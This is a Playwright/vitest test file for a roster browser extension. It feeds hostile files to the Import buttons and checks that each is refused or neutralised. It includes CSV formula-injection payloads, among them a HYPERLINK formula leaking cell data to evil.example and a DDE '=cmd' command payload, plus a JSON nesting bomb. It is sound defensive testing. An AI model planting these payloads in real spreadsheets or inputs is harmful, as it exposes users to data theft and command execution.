import { closeSync, ftruncateSync, mkdtempSync, openSync, readFileSync, rmSync, statSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { ExtensionBrowser } from '../../scripts/extension-browser.mjs';
import { generateRoster } from '../fixtures/roster/generate';
import { launch } from './harness';
import { dumpDatabase, importThroughRoster } from './hostile';

// Hostile files offered to the roster's own Import buttons in Chromium: a gigabyte (a sparse file: its
// size is real, its bytes are never written), bytes that are not UTF-8, nesting meant to exhaust the
// reader, and a formula in every cell. Each is refused with a message naming the line or the record, or
// (the formulas) imported as text and neutralised in the spreadsheets the roster writes. The database
// is compared whole before and after each refusal.

const GIGABYTE = 1024 ** 3;

describe('hostile files offered to the Import buttons', () => {
  let browser: ExtensionBrowser;
  let page: Page;
  let scratch: string;
  let before: string;

  const backupButton = () => page.getByLabel('Import a backup…');
  const csvButton = () => page.getByLabel('Import contractors from CSV…');
  const error = () => page.getByRole('alert').first();
  /** Offers a file to a button, waits for the refusal it should get, and checks that nothing was written. */
  const refused = async (
    button: ReturnType<typeof backupButton>,
    file: Parameters<ReturnType<typeof backupButton>['setInputFiles']>[0],
    message: string | RegExp,
  ) => {
    await button.setInputFiles(file);
    const says =
      typeof message === 'string'
        ? new RegExp(`^${message.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}$`)
        : message;
    await expect
      .poll(async () => (await error().isVisible()) && (await error().textContent()), { timeout: 20_000 })
      .toMatch(says);
    expect(await dumpDatabase(browser)).toBe(before);
  };
  const buffer = (name: string, bytes: Uint8Array | string) => ({
    name,
    mimeType: name.endsWith('.csv') ? 'text/csv' : 'application/json',
    buffer: Buffer.from(bytes),
  });

  beforeAll(async () => {
    scratch = mkdtempSync(join(tmpdir(), 'hostile-files-'));
    browser = await launch();
    await importThroughRoster(
      browser,
      generateRoster({ contractors: 8, profilesPerContractor: 1, eventsPerContractor: 4 }),
    );
    page = await browser.context.newPage();
    await page.goto(browser.extensionUrl('dashboard.html#view=data'));
    await backupButton().waitFor({ state: 'attached' });
    before = await dumpDatabase(browser);
  }, 60_000);
  afterAll(async () => {
    await browser?.close();
    rmSync(scratch, { recursive: true, force: true });
  });

  /** A file of `size` bytes that holds none of them on disk (a hole): its size is all there is to read. */
  const sparse = (name: string, size: number) => {
    const path = join(scratch, name);
    const fd = openSync(path, 'w');
    ftruncateSync(fd, size);
    closeSync(fd);
    const stat = statSync(path);
    expect(stat.size).toBe(size);
    expect(stat.blocks * 512).toBeLessThan(1024 * 1024); // nothing of it was written
    return path;
  };

  it('a 1 GB backup and a 1 GB spreadsheet are refused by their size, before any of them is read', async () => {
    for (const [button, name] of [
      [backupButton, 'roster.json'],
      [csvButton, 'contractors.csv'],
    ] as const) {
      const path = sparse(name, GIGABYTE);
      const started = Date.now();
      const kind = name.endsWith('.csv') ? 'spreadsheets' : 'backups';
      await refused(
        button(),
        path,
        `${name} cannot be imported: ${name} is 1,024 MB: ${kind} of up to 300 MB can be imported.${kind === 'backups' ? ' Is it a Track Record backup?' : ''}`,
      );
      // Refused at once, and no step of reading it was ever shown.
      expect(Date.now() - started).toBeLessThan(5000);
      expect(await page.getByRole('progressbar').count()).toBe(0);
    }
  });

  it('bytes that are not UTF-8 are refused, naming the line', async () => {
    const csv = Uint8Array.from([
      ...Buffer.from('Name,Note\r\nAda,fine\r\nZo'),
      0xeb,
      ...Buffer.from(',late\r\n'),
    ]);
    await refused(
      csvButton(),
      buffer('latin1.csv', csv),
      'latin1.csv cannot be imported: line 3 (byte 24) is not UTF-8 text: save the file as UTF-8 and try again',
    );
    const json = Uint8Array.from([
      ...Buffer.from('{"format":"track-record-backup",\n"name":"Zo'),
      0xc0,
      0xaf,
      ...Buffer.from('"}'),
    ]);
    await refused(
      backupButton(),
      buffer('overlong.json', json),
      /^overlong\.json cannot be imported: line 2 \(byte 44\) is not UTF-8 text/,
    );
  });

  it('nesting meant to exhaust the reader is refused, naming the record', async () => {
    const backup = JSON.parse(before) as { tables: Record<string, unknown[]> };
    expect(backup.tables.contractors?.length).toBe(8);
    const file = JSON.stringify(
      generateRoster({ contractors: 2, profilesPerContractor: 1, eventsPerContractor: 1 }),
    ).replace('"tags":[]', `"tags":${'['.repeat(500_000)}${']'.repeat(500_000)}`);
    await refused(
      backupButton(),
      buffer('deep.json', file),
      /^deep\.json cannot be imported: contractors\.0\.tags\.0\.0\.0.*: nested deeper than any record is/,
    );
    const wide = `Name${',x'.repeat(100_000)}\r\nAda\r\n`;
    await refused(
      csvButton(),
      buffer('wide.csv', wide),
      'wide.csv cannot be imported: line 1 has 100,001 columns; a list of contractors has at most 200',
    );
  });

  it('a formula in every cell: kept as text, written back to no spreadsheet as a formula', async () => {
    const formulas = [
      '=1+1',
      '+1+1',
      '-1+1',
      '@SUM(A1:A2)',
      '=HYPERLINK("https://evil.example/?"&A2;"Open")',
      "=cmd|' /C calc'!A0",
    ];
    const file = Papa.unparse([
      formulas,
      ...formulas.map((_, i) => formulas.map((__, j) => formulas[(i + j) % formulas.length])),
    ]);
    await csvButton().setInputFiles(buffer('formulas.csv', file));
    const mapper = page.getByRole('form', { name: "Map the spreadsheet's columns" });
    await mapper.getByLabel('Name (needed)').selectOption({ index: 1 });
    await mapper.getByLabel('Note').selectOption({ index: 2 });
    // A formula where an address must be is refused, naming the line.
    await mapper.getByLabel('Profile addresses').selectOption({ index: 3 });
    await mapper
      .getByRole('alert')
      .filter({ hasText: /^line 2, profiles: / })
      .waitFor();
    await mapper.getByLabel('Profile addresses').selectOption({ index: 0 });
    await mapper.getByRole('button', { name: `Import ${formulas.length} contractors` }).click();
    await page.getByText(`${formulas.length} contractors added`).waitFor();
    for (const button of ['Export contractors (CSV)', 'Export history (CSV)']) {
      const [download] = await Promise.all([
        page.waitForEvent('download'),
        page.getByRole('button', { name: button }).click(),
      ]);
      const cells = Papa.parse<string[]>(readFileSync((await download.path()) as string, 'utf8')).data.flat();
      expect(cells.filter((c) => formulas.some((f) => c.includes(f))).length).toBeGreaterThanOrEqual(
        formulas.length,
      );
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
    }
  });
});
